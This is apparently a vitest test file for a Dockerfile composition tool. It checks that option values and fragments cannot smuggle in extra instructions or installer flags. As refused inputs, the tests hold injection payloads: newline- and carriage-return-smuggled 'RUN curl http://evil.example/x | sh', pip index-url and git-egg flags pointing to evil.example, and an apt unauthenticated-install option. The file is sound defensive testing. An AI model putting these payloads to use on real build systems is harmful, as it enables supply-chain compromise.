import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test, type TestContext } from 'vitest';
import { composeImage } from './compose';
import { composedContractErrors, type ComposedBlock } from './composed-contract';
import { composeBroken } from './compose-broken.test-kit';
import { makeFixtureWorkspace } from '@image-layers/testing/fixture-workspace';
import { parseFragment, type ParsedFragment } from './fragment';
import { writeComposedImage } from './write';

// Option values are written into the composed Dockerfile: each case here once added instructions of its own, or
// reached an install step with flags that change where it installs from (README, Security model).

const layer = (name: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name, version: '1.0.0', description: `the ${name} fixture layer`, ...extra }, null, 2);
const image = (layers: unknown[]) =>
  JSON.stringify({ name: 'img', description: 'a fixture image', layers }, null, 2);
const withBaseOptions = (options: Record<string, unknown>) => ({
  'apps/img/image.json': image([{ layer: 'base', options }, 'user', 'tools']),
});

/** A layer that installs pip requirements, as python-runtime does, listed last in the fixture image. */
const pipLayer = {
  'packages/py/layer.json': layer('py', {
    options: {
      PYTHON_PACKAGES: {
        type: 'string-list',
        default: [],
        collects: 'pythonPackages',
        description: 'pip requirements',
      },
    },
  }),
  'packages/py/layer.Dockerfile': 'ARG PYTHON_PACKAGES=\nRUN pip install --no-cache-dir ${PYTHON_PACKAGES}\n',
};

describe.concurrent('option values cannot add instructions or flags', () => {
  for (const [what, value, codePoint] of [
    ['a newline', '1.0\nRUN curl http://evil.example/x | sh', 'U+000A'],
    ['a lone carriage return', '1.0\rRUN curl http://evil.example/x | sh', 'U+000D'],
    ['a Unicode line separator', '1.0\u2028RUN id', 'U+2028'],
    ['a NUL', 'plain\u0000', 'U+0000'],
  ] as const) {
    test(`a string value with ${what} is refused at its line in image.json`, async (context) => {
      const stderr = await composeBroken(context, withBaseOptions({ FLAVOUR: value }));
      expect(stderr).toMatch(/apps\/img\/image\.json:\d+:\d+: error invalid-option \[base\] option FLAVOUR/);
      expect(stderr).toContain(`control character ${codePoint}`);
    });
  }

  test('APT_PACKAGES-style collecting options set directly are held to package names, item by item', async (context) => {
    const stderr = await composeBroken(
      context,
      withBaseOptions({ PACKAGES: ['curl', '-o', 'APT::Get::AllowUnauthenticated=true'] }),
    );
    expect(stderr).toMatch(/apps\/img\/image\.json:\d+:\d+: error invalid-option \[base\] option PACKAGES/);
    expect(stderr).toContain('item 2 "-o" is not a Debian package name');
    expect(stderr).toContain('declare the image\'s packages in "aptPackages"');
  });

  for (const items of [
    ['--index-url', 'http://evil.example/simple'],
    ['-e', 'git+http://evil.example/x.git#egg=x'],
    ['pkg', '--extra-index-url=http://evil.example/simple'],
  ]) {
    test(`pip flags set through PYTHON_PACKAGES (${items.join(' ')}) are refused`, async (context) => {
      const stderr = await composeBroken(context, {
        ...pipLayer,
        'apps/img/image.json': image([
          'base',
          'user',
          'tools',
          { layer: 'py', options: { PYTHON_PACKAGES: items } },
        ]),
      });
      expect(stderr).toContain('error invalid-option [py] option PYTHON_PACKAGES');
      expect(stderr).toContain('is not a pip requirement without spaces');
    });
  }

  test('a list item holding a space (two words in the ARG) is refused', async (context) => {
    const stderr = await composeBroken(context, withBaseOptions({ PACKAGES: ['curl jq'] }));
    expect(stderr).toContain('item 1 is empty or holds white space: a list item is one word');
  });

  test("a layer's own default with a line break is refused at its line in layer.json", async (context) => {
    const stderr = await composeBroken(context, {
      'packages/base/layer.json': layer('base', {
        base: true,
        options: { FLAVOUR: { type: 'string', default: 'plain\nRUN id', description: 'a flavour' } },
      }),
      'packages/base/layer.Dockerfile': 'FROM debian:bookworm-slim\nARG FLAVOUR=plain\n',
    });
    expect(stderr).toMatch(
      /packages\/base\/layer\.json:\d+:\d+: error invalid-manifest \[base\] options\.FLAVOUR\.default/,
    );
    expect(stderr).toContain('control character U+000A');
  });

  test('a lone carriage return in a fragment is refused at its line', async (context) => {
    const stderr = await composeBroken(context, {
      'packages/user/layer.Dockerfile': 'RUN useradd -u 1000 -m agent\rRUN id\n',
    });
    expect(stderr).toContain('packages/user/layer.Dockerfile:1:29: error lone-carriage-return [user]');
  });

  test('accepted values keep the composed file to its fragments: same instructions, quoted where needed', (context) => {
    const workspace = makeFixtureWorkspace(
      withBaseOptions({ FLAVOUR: 'sweet', PACKAGES: ['curl', 'jq=1.6-2'] }),
    );
    context.onTestFinished(workspace.cleanup);
    const composed = composeImage(join(workspace.root, 'apps/img'));
    expect(composed.dockerfile).toContain('ARG FLAVOUR=sweet\n');
    expect(composed.dockerfile).toContain('ARG PACKAGES="curl jq=1.6-2 git"\n');
  });
});

describe('the composed Dockerfile is parsed again and held to the layer contract', () => {
  const fragment = (name: string, kind: 'layer' | 'image', text: string, isBase = false) =>
    parseFragment({ name, kind, file: `/ws/${name}.Dockerfile`, text, isBase }, '/').fragment;
  // A block holding a whole fragment, nothing written by the composer.
  const block = (of: ParsedFragment, firstLine: number, lineCount: number): ComposedBlock => ({
    fragment: of,
    slice: { part: 'install', sourceLine: 0, lines: of.unit.text.split('\n'), instructions: of.instructions },
    composedBefore: [],
    composedAfter: [],
    firstLine,
    lineCount,
    sourceLine: 0,
    composerLines: 0,
    closingLines: 0,
  });
  const base = fragment('base', 'layer', 'FROM debian\nARG V=1\n', true);
  const tools = fragment('tools', 'layer', 'ARG W=2\nRUN true\n');
  const app = fragment('img', 'image', 'CMD ["sh"]\n');
  const blocks = [block(base, 0, 2), block(tools, 2, 2), block(app, 4, 1)];

  test('the same instructions as the fragments pass', () => {
    expect(composedContractErrors('FROM debian\nARG V=3\nARG W=4\nRUN true\nCMD ["sh"]\n', blocks)).toEqual(
      [],
    );
  });

  test("the entrypoint layer's ENTRYPOINT passes; a second one, from an option value, is named", () => {
    const entry = parseFragment(
      {
        name: 'ep',
        kind: 'layer',
        file: '/ws/ep.Dockerfile',
        text: 'ENTRYPOINT ["/ep.sh"]\n',
        isBase: false,
        setsEntrypoint: true,
      },
      '/',
    ).fragment;
    const withEntry = [block(base, 0, 2), block(entry, 2, 1), block(app, 3, 1)];
    expect(
      composedContractErrors('FROM debian\nARG V=3\nENTRYPOINT ["/ep.sh"]\nCMD ["sh"]\n', withEntry),
    ).toEqual([]);
    const errors = composedContractErrors(
      'FROM debian\nARG V=3\nENTRYPOINT ["/ep.sh"]\nENTRYPOINT ["/x"]\n',
      [withEntry[0]!, { ...withEntry[1]!, lineCount: 2 }],
    );
    expect(errors.map((error) => `${error.location.file}:${error.location.line} ${error.message}`)).toContain(
      '/ws/ep.Dockerfile:2 the composed Dockerfile breaks the layer contract: 2 ENTRYPOINT instructions; an image has one',
    );
  });

  test('an instruction more than a fragment has, a FROM outside the base and an ENTRYPOINT in a layer are named at the fragment', () => {
    const errors = composedContractErrors(
      'FROM debian\nARG V=3\nARG W=4\nFROM evil\nENTRYPOINT x\nCMD ["sh"]\n',
      [blocks[0]!, { ...blocks[1]!, lineCount: 3 }, { ...blocks[2]!, firstLine: 5 }],
    );
    expect(errors.map((error) => `${error.location.file}:${error.location.line} ${error.message}`)).toEqual([
      '/ws/tools.Dockerfile:2 the composed Dockerfile breaks the layer contract: its layer "tools" has 3 instructions where the fragment has 2',
      '/ws/tools.Dockerfile:2 the composed Dockerfile breaks the layer contract: a FROM outside the base layer',
      "/ws/tools.Dockerfile:3 the composed Dockerfile breaks the layer contract: ENTRYPOINT outside the image's fragment and the entrypoint layer",
      '/ws/tools.Dockerfile:2 the composed Dockerfile breaks the layer contract: 2 FROM instructions; an image has one',
    ]);
  });

  test('a lone carriage return in the composed text is named', () => {
    const errors = composedContractErrors(
      'FROM debian\nARG V="1\rRUN id"\nARG W=4\nRUN true\nCMD ["sh"]\n',
      blocks,
    );
    expect(errors[0]?.message).toContain('a lone carriage return');
  });
});

test('JSON-form COPY names its sources like the shell form', (context: TestContext) => {
  const workspace = makeFixtureWorkspace({
    'packages/tools/layer.Dockerfile':
      'COPY ["bin/hello", "/usr/local/bin/hello"]\nCOPY --chown=1000:1000 ["conf/tools.conf", "/etc/tools.conf"]\n',
  });
  context.onTestFinished(workspace.cleanup);
  const out = join(workspace.root, 'dist/apps/img');
  writeComposedImage(composeImage(join(workspace.root, 'apps/img')), out);
  expect(readFileSync(join(out, 'conf/tools.conf'), 'utf8')).toBe('answer=42\n');
  expect(readFileSync(join(out, 'bin/hello'), 'utf8')).toContain('echo hello');
});
